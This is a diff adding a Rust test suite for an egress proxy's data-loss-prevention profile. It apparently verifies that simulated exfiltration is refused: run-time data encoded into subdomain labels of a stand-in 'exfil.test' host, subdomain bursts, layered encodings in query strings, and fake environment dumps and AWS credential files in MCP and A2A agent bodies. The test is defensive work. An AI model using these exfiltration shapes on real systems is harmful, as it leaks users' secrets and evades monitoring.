@@ -1,0 +1,365 @@
+//! The `strict` DLP profile and the exfiltration shapes through a real
+//! pipelock: data in host labels, bursts of new subdomains, layered encodings
+//! in a query, environment dumps and credential files in MCP / A2A bodies.
+//! Each refusal is checked at the origin: its request log shows nothing of it.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use common::*;
+use std::time::Duration;
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine as _;
+use bytes::Bytes;
+use http_body_util::{BodyExt, Full, StreamBody};
+
+const ALLOW: &str = "*.exfil.test:*\necho.test:*\n127.0.0.1/32\n";
+const STRICT: &str = "dlp: {action: block, profile: strict}\n";
+
+/// Run-time data an agent would smuggle, as a lower-case base32 DNS label.
+fn base32_label(seed: u64) -> String {
+    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
+    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
+    (0..32)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            A[(x >> 40) as usize % 32] as char
+        })
+        .collect()
+}
+
+/// `--resolve NAME=127.0.0.1` for each name.
+fn resolves(names: &[String]) -> Vec<String> {
+    names
+        .iter()
+        .flat_map(|n| ["--resolve".to_string(), format!("{n}=127.0.0.1")])
+        .collect()
+}
+
+async fn spawn(env: &Env, names: &[String], audit: bool) -> pipelock::Running {
+    let mut args = resolves(names);
+    if audit {
+        args.push("--audit-log".into());
+        args.push(env.dir.path().join("audit.jsonl").display().to_string());
+    }
+    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
+    env.spawn(&argv).await
+}
+
+fn write_routes(env: &Env, text: &str) {
+    let tmp = env.cfg_dir().join(".routes.tmp");
+    std::fs::write(&tmp, text).unwrap();
+    std::fs::rename(&tmp, env.cfg_dir().join("routes.yaml")).unwrap();
+}
+
+async fn connect_status(p: &pipelock::Running, authority: &str) -> (u16, String) {
+    let (status, head, mut s) = raw_head(
+        p.addr,
+        &format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n"),
+    )
+    .await;
+    let body = if status == 200 {
+        String::new()
+    } else {
+        read_body(&mut s, &head).await
+    };
+    (status, format!("{head}{body}"))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn encoded_host_label_is_allowed_in_default_and_refused_after_reload_to_strict() {
+    let env = Env::new(ALLOW, "").await;
+    let label = base32_label(7);
+    let host = format!("{label}.exfil.test");
+    let p = spawn(&env, std::slice::from_ref(&host), true).await;
+    let auth = format!("{host}:{}", env.tls_port());
+    let (status, text) = connect_status(&p, &auth).await;
+    assert_eq!(status, 200, "default profile: {text}");
+
+    write_routes(&env, STRICT);
+    p.live.reload_now().await.unwrap();
+    let (status, text) = connect_status(&p, &auth).await;
+    assert_eq!(status, 403, "strict profile: {text}");
+    assert!(
+        text.to_ascii_lowercase()
+            .contains("x-bottle-blocked: pipelock"),
+        "{text}"
+    );
+    assert!(
+        text.contains("suspected exfiltration in request host: anomaly-host-entropy"),
+        "{text}"
+    );
+    assert!(
+        !text.contains(&label),
+        "the refusal echoes the label: {text}"
+    );
+    // Plain HTTP to the same name is refused before it is resolved or sent.
+    let r = http_get(p.addr, &format!("http://{host}:{}/x", env.http_port())).await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(env.origin.requests().is_empty());
+    // Ordinary names under the same wildcard still work in strict.
+    let ok = http_get(
+        p.addr,
+        &format!("http://echo.test:{}/fine", env.http_port()),
+    )
+    .await;
+    assert_eq!(ok.status, 200, "{}", ok.text());
+    p.stop().await;
+    let audit = std::fs::read_to_string(env.dir.path().join("audit.jsonl")).unwrap();
+    // (The default-profile tunnel before the reload was audited with its name.)
+    let refusals: Vec<&str> = audit
+        .lines()
+        .filter(|l| l.contains("anomaly-host-entropy"))
+        .collect();
+    assert_eq!(refusals.len(), 2, "{audit}");
+    assert!(
+        refusals.iter().all(|l| !l.contains(&label)),
+        "a refusal's audit line holds the label: {audit}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn burst_of_new_subdomains_is_cut_at_the_limit_in_strict() {
+    let env = Env::new(ALLOW, STRICT).await;
+    let names: Vec<String> = (0..30).map(|i| format!("s{i}.exfil.test")).collect();
+    let p = spawn(&env, &names, false).await;
+    let port = env.http_port();
+    let mut refused = Vec::new();
+    for (i, n) in names.iter().enumerate() {
+        let r = http_get(p.addr, &format!("http://{n}:{port}/n{i}")).await;
+        match r.status {
+            200 => {}
+            403 => {
+                assert!(r.text().contains("anomaly-subdomain-burst"), "{}", r.text());
+                refused.push(i);
+            }
+            other => panic!("{n}: {other} {}", r.text()),
+        }
+    }
+    assert_eq!(refused, (20..30).collect::<Vec<_>>());
+    let seen: Vec<String> = env
+        .origin
+        .requests()
+        .iter()
+        .map(|q| q.path.clone())
+        .collect();
+    for i in 0..30 {
+        assert_eq!(
+            seen.contains(&format!("/n{i}")),
+            i < 20,
+            "/n{i} in {seen:?}"
+        );
+    }
+    // A subdomain used before the burst is familiar and keeps working.
+    let r = http_get(p.addr, &format!("http://s3.exfil.test:{port}/again")).await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    // CONNECT counts too: a new subdomain is still refused.
+    let extra = "s29.exfil.test".to_string();
+    let (status, text) = connect_status(&p, &format!("{extra}:{}", env.tls_port())).await;
+    assert_eq!(status, 403, "{text}");
+    p.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_layer_encoded_query_is_refused_in_strict_only() {
+    let text = "nightly export: customers table, 48 rows";
+    let layered = STANDARD.encode(hex::encode(STANDARD.encode(text)));
+    let one_layer = STANDARD.encode(text);
+    let q = |v: &str| {
+        v.replace('=', "%3D")
+            .replace('+', "%2B")
+            .replace('/', "%2F")
+    };
+    let env = Env::new(ALLOW, "").await;
+    let p = spawn(&env, &[], false).await;
+    let port = env.http_port();
+    let r = http_get(
+        p.addr,
+        &format!("http://echo.test:{port}/d1?v={}", q(&layered)),
+    )
+    .await;
+    assert_eq!(r.status, 200, "default profile: {}", r.text());
+
+    write_routes(&env, STRICT);
+    p.live.reload_now().await.unwrap();
+    let r = http_get(
+        p.addr,
+        &format!("http://echo.test:{port}/s1?v={}", q(&layered)),
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(
+        r.text()
+            .contains("suspected exfiltration in request URL: anomaly-encoding-layers"),
+        "{}",
+        r.text()
+    );
+    assert!(!r.text().contains(&layered[..16]));
+    // Through the tunnel as well.
+    let roots = roots_from_pem(&env.ca_cert());
+    let r = https_get(
+        p.addr,
+        &format!("echo.test:{}", env.tls_port()),
+        &format!("/s2?v={}", q(&layered)),
+        roots,
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    // One layer of base64 in a query is encoded data too (strict judges its
+    // shape), but an ordinary search query passes.
+    let r = http_get(
+        p.addr,
+        &format!("http://echo.test:{port}/s4?v={}", q(&one_layer)),
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(r.text().contains("anomaly-path-entropy"), "{}", r.text());
+    let r = http_get(
+        p.addr,
+        &format!("http://echo.test:{port}/s3?q=tokio+select+cancel+safety&page=2"),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    let paths: Vec<String> = env
+        .origin
+        .requests()
+        .iter()
+        .map(|q| q.path.clone())
+        .collect();
+    assert!(paths.contains(&"/d1".to_string()) && paths.contains(&"/s3".to_string()));
+    assert!(
+        !paths.iter().any(|p| p == "/s1" || p == "/s2" || p == "/s4"),
+        "{paths:?}"
+    );
+    p.stop().await;
+}
+
+type Body = http_body_util::combinators::BoxBody<Bytes, std::io::Error>;
+
+/// The body in slow chunks cut at `cuts`.
+fn chunked(doc: &str, cuts: &[usize]) -> Body {
+    let mut parts = Vec::new();
+    let mut at = 0;
+    for &c in cuts {
+        parts.push(doc[at..c].to_string());
+        at = c;
+    }
+    parts.push(doc[at..].to_string());
+    let stream = futures_util::stream::unfold(parts.into_iter(), |mut it| async move {
+        let next = it.next()?;
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        Some((
+            Ok::<_, std::io::Error>(hyper::body::Frame::data(Bytes::from(next))),
+            it,
+        ))
+    });
+    StreamBody::new(stream).boxed()
+}
+
+async fn post_via_tunnel(env: &Env, p: &pipelock::Running, path: &str, body: Body) -> Resp {
+    let auth = format!("echo.test:{}", env.tls_port());
+    let mut send = tunnel_h1(p.addr, &auth, "echo.test", &env.ca_cert()).await;
+    let req = http::Request::post(path)
+        .header("host", &auth)
+        .header("content-type", "application/json")
+        .body(body)
+        .unwrap();
+    let resp = tokio::time::timeout(T, send.send_request(req))
+        .await
+        .unwrap()
+        .unwrap();
+    let (parts, b) = resp.into_parts();
+    Resp {
+        status: parts.status.as_u16(),
+        headers: parts.headers,
+        body: b.collect().await.map(|c| c.to_bytes()).unwrap_or_default(),
+    }
+}
+
+/// A secret-shaped value built at run time (never a real credential).
+fn secretish(seed: u64) -> String {
+    let label = base32_label(seed);
+    format!(
+        "{}{}Zq{}",
+        &label[..10].to_ascii_uppercase(),
+        seed,
+        &label[10..]
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn env_dump_in_mcp_tools_call_and_credentials_in_a2a_message_are_refused_by_default() {
+    let env = Env::new(ALLOW, "").await;
+    let p = spawn(&env, &[], false).await;
+    let (a, b) = (secretish(11), secretish(12));
+    // Padding so the scanner would already have released the start.
+    let pad = "x".repeat(9000);
+    let dump = format!("HOME=/home/agent\nGITHUB_TOKEN={a}\nSHELL=/bin/sh\nOPENAI_API_KEY={b}\n");
+    let mcp = serde_json::json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call",
+        "params": {"name": "create_issue", "arguments": {"title": "env", "pad": pad, "body": dump}}})
+    .to_string();
+    let second = mcp.find("OPENAI_API_KEY").unwrap();
+    let r = post_via_tunnel(&env, &p, "/mcp", chunked(&mcp, &[second - 5, second + 6])).await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert_eq!(r.headers.get("x-bottle-blocked").unwrap(), "pipelock");
+    assert!(
+        r.text()
+            .contains("suspected exfiltration in request body: exfil-env-dump"),
+        "{}",
+        r.text()
+    );
+    for q in env.origin.requests().iter().filter(|q| q.path == "/mcp") {
+        assert!(
+            (q.body_len as usize) < second,
+            "origin got {} bytes",
+            q.body_len
+        );
+    }
+    let creds = format!("[default]\naws_access_key_id = AKIA0000\naws_secret_access_key = {a}\n");
+    let a2a = serde_json::json!({"jsonrpc": "2.0", "id": "t1", "method": "message/send",
+        "params": {"message": {"role": "agent", "parts": [{"kind": "text", "text": creds}]}}})
+    .to_string();
+    let r = post_via_tunnel(
+        &env,
+        &p,
+        "/a2a",
+        Full::new(Bytes::from(a2a)).map_err(|e| match e {}).boxed(),
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(r.text().contains("exfil-credential-file"), "{}", r.text());
+    assert!(env
+        .origin
+        .requests()
+        .iter()
+        .all(|q| q.path != "/a2a" || q.body_len == 0));
+    // An ordinary tool call with configuration names (no values) passes.
+    let ok = serde_json::json!({"jsonrpc": "2.0", "id": 5, "method": "tools/call",
+        "params": {"name": "set_env", "arguments": {"vars": ["GITHUB_TOKEN", "OPENAI_API_KEY"],
+        "note": "GITHUB_TOKEN=${{ secrets.GITHUB_TOKEN }}"}}})
+    .to_string();
+    let r = post_via_tunnel(
+        &env,
+        &p,
+        "/ok",
+        Full::new(Bytes::from(ok)).map_err(|e| match e {}).boxed(),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    p.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn log_action_lets_anomalies_through() {
+    let env = Env::new(ALLOW, "dlp: {action: log, profile: strict}\n").await;
+    let label = base32_label(21);
+    let host = format!("{label}.exfil.test");
+    let p = spawn(&env, std::slice::from_ref(&host), false).await;
+    let r = http_get(p.addr, &format!("http://{host}:{}/logged", env.http_port())).await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    assert!(env.origin.requests().iter().any(|q| q.path == "/logged"));
+    p.stop().await;
+}
